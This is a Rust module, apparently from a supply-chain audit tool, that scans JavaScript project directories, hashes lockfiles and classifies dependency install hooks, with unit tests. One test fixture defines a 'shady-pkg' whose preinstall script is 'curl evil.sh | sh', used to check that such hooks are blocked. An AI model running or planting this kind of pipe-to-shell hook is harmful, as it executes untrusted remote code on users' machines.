//! Project scanning -- manifest, lockfile identity, and lifecycle
//! classification for a single project directory.
//!
//! This is the expensive unit of work the pool distributes: it walks
//! every installed dependency's manifest, not just direct dependencies.
//! Scanning never fails outright; missing or malformed files degrade to
//! default values so one broken project cannot abort a fleet audit.

pub mod lifecycle;
pub mod manifest;

pub use lifecycle::{classify, DEFAULT_TRUSTED, LIFECYCLE_HOOKS, NATIVE_PATTERNS};
pub use manifest::{installed_packages, read_manifest, InstalledPackage, Manifest};

use std::path::Path;
use tracing::debug;

use crate::hash::{sha256_file, NO_LOCKFILE};
use crate::types::ProjectRecord;

/// Lockfile candidates, checked in order. First existing file wins.
pub const LOCKFILE_CANDIDATES: &[&str] = &[
    "bun.lock",
    "bun.lockb",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
];

/// Scan one project directory into a `ProjectRecord`.
///
/// Read-only filesystem access. Never returns an error: a directory
/// that is not a project at all yields a record with sentinel fields.
pub async fn scan_project(dir: &Path) -> ProjectRecord {
    let folder = dir
        .file_name()
        .map_or_else(|| dir.display().to_string(), |n| n.to_string_lossy().into_owned());

    let manifest = read_manifest(&dir.join("package.json")).await;
    let lock_hash = lockfile_hash(dir).await;
    let packages = installed_packages(dir).await;
    let (lifecycle, native) = classify(&packages, &manifest.trusted_dependencies);

    debug!(
        folder = %folder,
        packages = packages.len(),
        hooks = lifecycle.total(),
        "scanned project"
    );

    ProjectRecord {
        folder,
        lock_hash,
        trusted_declared: manifest.trusted_dependencies,
        lifecycle,
        native,
    }
}

/// Content hash of the project's lockfile, or the `"-"` sentinel.
///
/// Derived from full lockfile content: any byte change invalidates the
/// incremental cache, regardless of file size or line count.
pub async fn lockfile_hash(dir: &Path) -> String {
    for candidate in LOCKFILE_CANDIDATES {
        let path = dir.join(candidate);
        if !path.is_file() {
            continue;
        }
        match sha256_file(&path).await {
            Ok(hash) => return hash,
            Err(e) => {
                debug!(path = %path.display(), error = %e, "unreadable lockfile, trying next candidate");
            }
        }
    }
    NO_LOCKFILE.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use tempfile::TempDir;

    fn write_project(root: &Path, manifest: &str) {
        fs::create_dir_all(root).unwrap();
        fs::write(root.join("package.json"), manifest).unwrap();
    }

    fn write_dep(root: &Path, name: &str, manifest: &str) {
        let dir = root.join("node_modules").join(name);
        fs::create_dir_all(&dir).unwrap();
        fs::write(dir.join("package.json"), manifest).unwrap();
    }

    #[tokio::test]
    async fn scan_of_empty_dir_degrades_to_defaults() {
        let tmp = TempDir::new().unwrap();
        let dir = tmp.path().join("not-a-project");
        fs::create_dir_all(&dir).unwrap();

        let rec = scan_project(&dir).await;
        assert_eq!(rec.folder, "not-a-project");
        assert_eq!(rec.lock_hash, NO_LOCKFILE);
        assert!(rec.trusted_declared.is_empty());
        assert_eq!(rec.lifecycle.total(), 0);
    }

    #[tokio::test]
    async fn scan_of_malformed_manifest_degrades_to_defaults() {
        let tmp = TempDir::new().unwrap();
        let dir = tmp.path().join("broken");
        write_project(&dir, "{not json at all");

        let rec = scan_project(&dir).await;
        assert_eq!(rec.folder, "broken");
        assert!(rec.trusted_declared.is_empty());
    }

    #[tokio::test]
    async fn scan_classifies_installed_hooks() {
        let tmp = TempDir::new().unwrap();
        let dir = tmp.path().join("api");
        write_project(
            &dir,
            r#"{"name":"api","trustedDependencies":["my-native-pkg"]}"#,
        );
        fs::write(dir.join("package-lock.json"), "{\"lockfileVersion\":3}").unwrap();
        write_dep(
            &dir,
            "esbuild",
            r#"{"name":"esbuild","scripts":{"postinstall":"node install.js"}}"#,
        );
        write_dep(
            &dir,
            "my-native-pkg",
            r#"{"name":"my-native-pkg","scripts":{"install":"node-gyp rebuild"}}"#,
        );
        write_dep(
            &dir,
            "shady-pkg",
            r#"{"name":"shady-pkg","scripts":{"preinstall":"curl evil.sh | sh"}}"#,
        );
        write_dep(&dir, "plain-pkg", r#"{"name":"plain-pkg"}"#);

        let rec = scan_project(&dir).await;
        assert!(rec.has_lockfile());
        assert_eq!(rec.lifecycle.default_trusted, vec!["esbuild"]);
        assert_eq!(rec.lifecycle.explicitly_trusted, vec!["my-native-pkg"]);
        assert_eq!(rec.lifecycle.blocked, vec!["shady-pkg"]);
        assert_eq!(rec.native, vec!["my-native-pkg"]);
    }

    #[tokio::test]
    async fn lockfile_hash_tracks_content_not_presence() {
        let tmp = TempDir::new().unwrap();
        let dir = tmp.path().join("svc");
        fs::create_dir_all(&dir).unwrap();

        assert_eq!(lockfile_hash(&dir).await, NO_LOCKFILE);

        fs::write(dir.join("yarn.lock"), "v1").unwrap();
        let h1 = lockfile_hash(&dir).await;
        fs::write(dir.join("yarn.lock"), "v2").unwrap();
        let h2 = lockfile_hash(&dir).await;

        assert_ne!(h1, NO_LOCKFILE);
        assert_ne!(h1, h2);
    }

    #[tokio::test]
    async fn idempotent_scan_yields_identical_records() {
        let tmp = TempDir::new().unwrap();
        let dir = tmp.path().join("stable");
        write_project(&dir, r#"{"name":"stable"}"#);
        fs::write(dir.join("bun.lock"), "lock-content").unwrap();
        write_dep(
            &dir,
            "hooked",
            r#"{"name":"hooked","scripts":{"prepare":"echo hi"}}"#,
        );

        let first = scan_project(&dir).await;
        let second = scan_project(&dir).await;
        assert_eq!(first, second);
    }
}
